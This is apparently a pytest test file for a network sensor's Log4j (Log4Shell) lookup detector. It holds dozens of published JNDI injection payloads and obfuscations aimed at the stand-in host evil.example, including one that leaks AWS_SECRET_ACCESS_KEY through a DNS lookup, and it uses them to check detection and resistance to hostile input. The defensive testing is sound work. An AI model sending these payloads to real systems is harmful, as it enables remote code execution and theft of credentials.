@@ -1,0 +1,127 @@
+"""Log4j lookups: the obfuscations that were published in December 2021 and after, and text that is none.
+
+Sources of the forms: Apache's Log4j 2 manual (Lookups, Property Substitution); the collections of payloads by
+Puliczek/CVE-2021-44228-PoC-log4j-bypass-words, woodpecker-appstore/log4j-payload-generator and back2root/log4shell-rex.
+"""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sensor.http.lookups import MAX_FOUND, MAX_LOOKUP, find_lookups
+
+PLAIN = "jndi:ldap://evil.example/a"
+
+VARIANTS: dict[str, str] = {
+    "plain": "${jndi:ldap://evil.example/a}",
+    "in a sentence": "Mozilla/5.0 ${jndi:ldap://evil.example/a} (X11)",
+    "lower, each letter": "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:ldap}://evil.example/a}",
+    "lower and upper": "${${lower:J}${upper:n}${lower:D}i:ldap://evil.example/a}",
+    "lower of a word": "${${lower:jndi}:${lower:LDAP}://evil.example/a}",
+    "nested lower": "${${lower:${lower:jndi}}:${lower:ldap}://evil.example/a}",
+    "upper of a dotless i": "${jnd${upper:\u0131}:ldap://evil.example/a}",
+    "empty default": "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
+    "default of nothing": "${${:-j}ndi:ldap://evil.example/a}",
+    "many colons": "${${:::::::::-j}ndi:ldap://evil.example/a}",
+    "default, some letters": "${j${::-n}di:ldap://evil.example/a}",
+    "default of env": "${${env:E_N:-j}ndi${env:E_N:-:}${env:E_N:-l}dap${env:E_N:-:}//evil.example/a}",
+    "default of env, whole": "${${env:BARFOO:-jndi}:ldap://evil.example/a}",
+    "default of sys": "${${sys:no.such:-j}ndi:ldap://evil.example/a}",
+    "default of an unknown prefix": "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://evil.example/a}",
+    "default, dashes": "${${-:-j}ndi:ldap://evil.example/a}",
+    "date with quotes": "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:${date:'ldap'}://evil.example/a}",
+    "base64": "${${base64:am5kaTpsZGFw}://evil.example/a}",
+    "base64, all": "${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}",
+    "nested defaults": "${${::-${::-j}}ndi:ldap://evil.example/a}",
+    "case of the prefix": "${JnDi:ldap://evil.example/a}",
+    "percent": "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+    "percent, lower case": "%24%7bjndi:ldap://evil.example/a%7d",
+    "percent, twice": "%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fa%257D",
+    "percent, brace only": "$%7Bjndi:ldap://evil.example/a%7D",
+    "percent, dollar only": "%24{jndi:ldap://evil.example/a}",
+    "percent, each letter": "".join(f"%{ord(c):02x}" for c in "${jndi:ldap://evil.example/a}"),
+    "percent, over nesting": "%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+    "JSON": "\\u0024\\u007bjndi:ldap://evil.example/a\\u007d",
+    "JSON, letters": "${\\u006a\\u006edi:ldap://evil.example/a}",
+    "HTML": "&#36;&#123;jndi:ldap://evil.example/a&#125;",
+    "HTML, hexadecimal": "&#x24;&#x7b;jndi:ldap://evil.example/a&#x7D;",
+    "cut off": "${jndi:ldap://evil.example/a",
+    "cut off, nested": "${${lower:j}ndi:ldap://evil.example/a",
+    "escaped dollar": "$${jndi:ldap://evil.example/a}",
+    "made by another": "${::-$}{jndi:ldap://evil.example/a}",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", VARIANTS)
+def test_published_obfuscations(name: str) -> None:
+    (found,) = find_lookups(VARIANTS[name].encode())
+    prefix, _, rest = found.partition(":")
+    assert (prefix.lower(), rest.lower()) == ("jndi", "ldap://evil.example/a")
+
+
+def test_other_protocols_and_what_they_carry_away() -> None:
+    text = (
+        b"${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example} and ${jndi:${lower:r}mi://x/${hostName}/${java:os}}"
+    )
+    assert find_lookups(text) == (
+        "env:AWS_SECRET_ACCESS_KEY",
+        "jndi:dns://{env:AWS_SECRET_ACCESS_KEY}.evil.example",
+        "java:os",
+        "jndi:rmi://x/{hostName}/{java:os}",
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "$Version=1; $Path=/",
+        "GS2.1.s1747$o1$g0$t1747$j60$l0$h0",
+        "price: $5 {each}",
+        "{{user}} ${}",
+        "$1$salt$hash",
+        "/MFQwUjBQME4wTDAJBgUrDgMCGgUABBT%2FcYm%2BQ%3D%3D",
+        "100%25 of %24 5",
+        "function(){return $(this)}",
+        "$${a}",
+        "${name}",
+        "${user.home}/x",
+        "${lower:ABC}",
+        "a & b \\u0041",
+    ],
+)
+def test_what_is_no_lookup(text: str) -> None:
+    assert find_lookups(text.encode()) == ()
+
+
+@given(st.binary(max_size=400))
+def test_any_bytes(data: bytes) -> None:
+    for each in find_lookups(data):
+        assert each
+        assert len(each) <= MAX_LOOKUP
+
+
+@given(st.text(alphabet="${}:-jndi lower%24", max_size=300))
+def test_any_lookup_like_text(text: str) -> None:
+    assert len(find_lookups(text.encode())) <= MAX_FOUND
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["${" * 100_000, "${lower:" * 20 + "x" * 100_000 + "}" * 20, "${env:a}" * 20_000, "%25" * 60_000, "\\u00" * 50_000],
+)
+def test_hostile_text_costs_little(text: str) -> None:
+    began = time.process_time()
+    assert len(find_lookups(text.encode())) <= MAX_FOUND
+    assert time.process_time() - began < 0.2
+
+
+def test_no_more_than_the_limits() -> None:
+    many = b"".join(b"${env:N%d}" % n for n in range(40))
+    assert len(find_lookups(many)) == MAX_FOUND
+    (long,) = find_lookups(b"${jndi:ldap://" + b"a" * 4000 + b"}")
+    assert len(long) == MAX_LOOKUP
